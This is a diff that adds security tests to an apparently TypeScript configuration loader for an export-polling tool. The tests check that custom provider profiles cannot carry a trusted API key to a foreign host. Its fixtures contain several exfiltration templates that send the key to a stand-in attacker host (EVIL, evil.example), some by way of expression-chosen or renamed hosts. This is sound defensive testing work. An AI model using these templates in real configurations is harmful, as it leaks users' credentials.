@@ -68,6 +68,94 @@ test('nor may it send the user file’s secret there, whichever way it names the
   }
 });
 
+/** The profile of webadmit as a file would redefine it, its key no secret, with one more thing changed. */
+function redefined(from: string | RegExp, to: string): string {
+  const open = builtinText('webadmit').replace('access, secret: true', 'access');
+  const changed = open.replace(from, to);
+  if (changed === open) throw new Error(`nothing like ${from} in the profile`);
+  return changed;
+}
+
+const STATUS_URL = "'{+baseUrl}/api/v1/exports/{exportId}/export_files/{fileId}'";
+
+test.each([
+  ['in the status request', redefined(STATUS_URL, `'${EVIL}/steal/{apiKey}'`), EVIL],
+  [
+    'in a follow-up',
+    redefined(
+      /^files:/m,
+      `followUps: [{ as: x, when: ready, request: { url: '${EVIL}/{apiKey}' } }]\nfiles:`,
+    ),
+    EVIL,
+  ],
+  [
+    'in the link of a file',
+    redefined('url: body.export_files.download_url', `template: ${EVIL}/{apiKey}`),
+    EVIL,
+  ],
+  [
+    'in a link without a scheme',
+    redefined('url: body.export_files.download_url', `template: //evil.example/{apiKey}`),
+    'wherever',
+  ],
+  ['in a host that the id decides', redefined(STATUS_URL, "'https://{exportId}/{apiKey}'"), 'wherever'],
+  ['in a host that the id goes on with', redefined(STATUS_URL, "'{+baseUrl}{fileId}/{apiKey}'"), 'wherever'],
+  [
+    'in a host that an expression gives',
+    redefined(STATUS_URL, `'{+x}/{apiKey}'\n    with: { x: "'${EVIL}'" }`),
+    'wherever "{+x}/{apiKey}" leads',
+  ],
+  [
+    'in a host that an expression gives under the name of the API root',
+    redefined(STATUS_URL, `'{+baseUrl}/{apiKey}'\n    with: { baseUrl: "'${EVIL}'" }`),
+    'wherever',
+  ],
+  [
+    'in a host that the id gives under the name of the API root',
+    redefined(/pattern: .*$/m, "pattern: '(?<base\\u0055rl>.+)'"),
+    'wherever',
+  ],
+])('a profile of its own cannot take a trusted secret along %s', async (_, profile, where) => {
+  const binding = { env: { EXPORTPOLL_WEBADMIT_API_KEY: 'the-very-secret-key' }, user: '' };
+  const inFile = { env: {}, user: 'providers: { webadmit: { apiKey: the-very-secret-key } }' };
+  for (const { env, user } of [binding, inFile]) {
+    for (const inline of [true, false]) {
+      const world = createWorld(env);
+      if (user !== '') world.user(user);
+      world.write('home/work/evil.yaml', profile);
+      const text = inline ? `\n${profile.replace(/^/gm, '      ')}` : ' evil.yaml';
+      const path = world.project(`providers:\n  webadmit:\n    profile:${text}`);
+      const configuration = await world.load();
+      expect(configuration.problems.map(({ message }) => message).join('\n')).toContain(where);
+      expect(() => configuration.account('webadmit')).toThrow(where);
+      expect(JSON.stringify(configuration.sources)).not.toContain('the-very-secret-key');
+      expect(configuration.profile('webadmit').variables['apiKey']?.secret).toBe(true);
+      expect(await problemsOf(world, path)).toEqual([]);
+    }
+  }
+});
+
+test('a profile of its own cannot make a link of what it borrows under another name', async () => {
+  const world = createWorld({ AWS_SECRET: 'the-very-secret-key' });
+  world.user('providers: { acme: { baseUrl: "https://api.webadmit.org", use: webadmit } }');
+  const profile = redefined(/\bapiKey\b/g, 'word').replace(
+    'body.export_files.download_url',
+    `"join('/', ['${EVIL}', vars.word])"`,
+  );
+  world.write('home/work/evil.yaml', profile);
+  world.project('providers: { acme: { profile: evil.yaml, word: "${AWS_SECRET}" } }');
+  const { problems, sources } = await world.load();
+  expect(problems.map(({ message }) => message).join()).toContain('to wherever its links lead');
+  expect(JSON.stringify(sources)).not.toContain('the-very-secret-key');
+});
+
+test('a profile of its own may send a trusted secret where it may go anyway', async () => {
+  const world = createWorld({ EXPORTPOLL_WEBADMIT_API_KEY: 'env-key' });
+  world.write('home/work/own.yaml', builtinText('webadmit').replace('interval: 3s', 'interval: 9s'));
+  world.project('providers: { webadmit: { profile: own.yaml } }');
+  expect(await problemsOf(world)).toEqual([]);
+});
+
 test('nor to a token endpoint of its own', async () => {
   const world = createWorld({
     EXPORTPOLL_PERSONIUM_PASSWORD: 'pass-word',
